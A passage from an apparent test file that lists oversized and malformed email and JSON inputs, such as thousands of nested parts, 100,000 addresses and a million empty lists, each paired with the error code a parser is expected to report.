    "a mail of forwarded mails",
    "a.eml",
    "mail-too-many-parts",
    MAIL + b"Content-Type: message/rfc822\n\n" * 5000,
    "email",
)
case(
    "a mail of 100,000 addresses",
    "a.eml",
    "mail-too-many-headers",
    MAIL + b"To: " + b"a@b.example, " * 100_000 + b"\n\nx",
    "email",
)
case(
    "a mail whose words are nonsense",
    "a.eml",
    "",
    MAIL + b"Content-Type: text/plain; charset=utf-16\n\n" + bytes(range(256)) * 50,
    "email",
)
case(
    "JSON with a key twice at the end",
    "a.json",
    "json-key-twice",
    b"[{" + b"".join(b'"k%d":1,' % i for i in range(300_000)) + b'"k299999":1}]',
    "json",
)
case("JSON of empty lists", "a.json", "json-row-no-object", b"[" + b"[]," * 1_000_000 + b"[]]", "json")
case("a kind there is not", "a.json", "no-such-format", b"{}", "khong-co")
